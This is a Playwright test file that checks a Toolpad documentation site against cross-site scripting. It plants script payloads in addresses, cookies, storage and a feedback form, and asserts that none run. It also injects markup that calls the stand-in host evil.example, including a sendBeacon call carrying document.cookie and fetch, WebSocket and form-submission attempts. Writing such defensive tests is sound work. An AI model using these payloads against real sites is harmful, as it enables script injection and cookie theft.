import { CONFIGURED_ENVIRONMENT, CONFIGURED_PORT } from '../support/configured.mjs';
import { waitForHydration } from '../support/site';
import { expect, test, type Page } from '../support/test';

const CONFIGURED = `http://127.0.0.1:${CONFIGURED_PORT}`;
const PAGE = '/toolpad/core/react-use-dialogs/';

const ATTACKS = [
  '"><img src=x onerror="window.attacked=1"><script>window.attacked=1</script>',
  "javascript:window.attacked=1//';window.attacked=1;//",
  '</script><svg onload="window.attacked=1"><iframe srcdoc="<script>parent.attacked=1</script>">',
];

/** Sees where a page wants to go; nothing gets there. */
async function watchOutside(page: Page): Promise<string[]> {
  const outside: string[] = [];
  await page.route(/^https?:\/\/(?!127\.0\.0\.1)/, async (route) => {
    outside.push(route.request().url());
    await route.abort();
  });
  return outside;
}

function isAttacked(page: Page): Promise<boolean> {
  return page.evaluate(() => 'attacked' in window);
}

for (const [index, attack] of ATTACKS.entries()) {
  test(`attack ${index + 1} in address, cookie and storage is read as a text`, async ({
    page,
    context,
    baseURL,
  }) => {
    const outside = await watchOutside(page);
    const encoded = encodeURIComponent(attack);
    const names = ['codeStyling', 'codeVariant'];
    await context.addCookies(
      names.map((name) => ({ name, value: encoded, url: `${baseURL ?? ''}/` })),
    );
    await page.addInitScript((value) => {
      // The keys that a visit leaves, and Docusaurus' own with the site's suffix.
      const keys = ['theme', 'theme-c5a', 'direction', 'analyticsConsent', 'userLanguage'];
      const tabs = ['docusaurus.tab.npm2yarn', 'docusaurus.tab.npm2yarn-c5a'];
      [...keys, ...tabs, ...Object.keys(localStorage)].forEach((key) => {
        localStorage.setItem(key, value);
        sessionStorage.setItem(key, value);
      });
    }, attack);
    const query = ['q', 'demo', 'docusaurus-theme', 'userLanguage', 'docusaurus-data-x']
      .map((name) => `${name}=${encoded}`)
      .join('&');
    for (const address of [PAGE, '/toolpad/', '/toolpad/demo/', `/toolpad/${encoded}/`]) {
      await page.goto(`${address}?${query}#${encoded}`);
      await waitForHydration(page);
      await expect(page.locator('body')).not.toBeEmpty();
      expect(await isAttacked(page), address).toBe(false);
    }
    expect(outside).toEqual([]);
  });
}

test('an attack as comment is sent as it was typed, and shown nowhere', async ({ page }) => {
  const attack = ATTACKS.join('\n');
  await page.route(/^https:\/\//, (route) => route.abort());
  const received = new Promise<unknown>((resolve) => {
    void page.route(CONFIGURED_ENVIRONMENT.FEEDBACK_URL, async (route) => {
      if (route.request().method() === 'POST') {
        resolve(route.request().postDataJSON());
      }
      const headers = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' };
      await route.fulfill({ status: 200, headers, body: attack });
    });
  });
  await page.goto(CONFIGURED + PAGE);
  await waitForHydration(page);
  await page.getByRole('button', { name: 'Yes' }).click();
  await page.getByRole('textbox').fill(attack);
  await page.keyboard.press('Control+Enter');
  expect(await received).toMatchObject({ comment: attack });
  await expect(page.getByRole('status').filter({ hasText: /thank/i })).toBeVisible();
  expect(await isAttacked(page)).toBe(false);
});

test.describe('markup that got into a page after all', () => {
  test.use({ attacked: true });

  for (const origin of ['', CONFIGURED]) {
    test(`runs nothing and sends nothing${origin && ', with everything configured'}`, async ({
      page,
    }) => {
      await page.route(/^https:\/\/(?!evil)/, (route) => route.abort());
      await page.goto(origin + PAGE);
      await waitForHydration(page);
      const outside: string[] = [];
      await page.route(/^https?:\/\/evil\.example/, async (route) => {
        outside.push(route.request().url());
        await route.fulfill({ contentType: 'text/javascript', body: 'window.attacked=1' });
      });
      await page.evaluate(async () => {
        // What Playwright itself calls may use eval; what a timer calls is the page's own doing.
        await new Promise((resolve) => setTimeout(resolve, 0));
        const attempt = (action: () => unknown) => {
          try {
            return action();
          } catch {
            return undefined;
          }
        };
        const place = document.createElement('div');
        document.body.append(place);
        attempt(() => {
          place.innerHTML =
            '<base href="https://evil.example/"><img src=x onerror="window.attacked=1">' +
            '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>' +
            '<iframe src="https://evil.example/frame"></iframe>' +
            '<object data="https://evil.example/object"></object>' +
            '<form id="leak" action="https://evil.example/form"><input name="a"></form>' +
            '<style>@import "https://evil.example/style.css";' +
            'body{background:url(http://evil.example/picture)}</style>';
        });
        for (const [key, value] of [
          ['text', 'window.attacked=1'],
          ['src', 'https://evil.example/script.js'],
          ['src', 'data:text/javascript,window.attacked=1'],
        ] as const) {
          attempt(() => {
            const script = document.createElement('script');
            script[key] = value;
            document.head.append(script);
          });
        }
        attempt(() => {
          place.setAttribute('onclick', 'window.attacked=1');
          place.click();
        });
        attempt(() => (0, eval)('window.attacked=1'));
        attempt(() => (Reflect.construct(Function, ['window.attacked=1']) as () => unknown)());
        attempt(() => Reflect.apply(setTimeout, window, ['window.attacked=1', 0]) as unknown);
        attempt(() => navigator.sendBeacon('https://evil.example/beacon', document.cookie));
        attempt(() => new WebSocket('wss://evil.example/socket'));
        attempt(() => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))));
        attempt(() => document.querySelector<HTMLFormElement>('#leak')?.submit());
        await fetch('https://evil.example/fetch').catch(() => undefined);
        // What was started above is over when the browser has come round to this.
        await new Promise((resolve) => setTimeout(resolve, 0));
        await new Promise((resolve) => requestAnimationFrame(resolve));
      });
      expect(await isAttacked(page)).toBe(false);
      expect(outside).toEqual([]);
      expect(new URL(page.url()).pathname).toBe(PAGE);
    });
  }

  test('no other site can show a page inside its own', async ({ page, baseURL }) => {
    await page.route('http://evil.example/', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<iframe src="${baseURL ?? ''}${PAGE}"></iframe><iframe src="${baseURL ?? ''}/toolpad/demo/"></iframe>`,
      }),
    );
    await page.goto('http://evil.example/');
    const frames = () =>
      page
        .frames()
        .slice(1)
        .map((frame) => frame.url());
    await expect
      .poll(frames)
      .toEqual(['chrome-error://chromewebdata/', 'chrome-error://chromewebdata/']);
  });
});
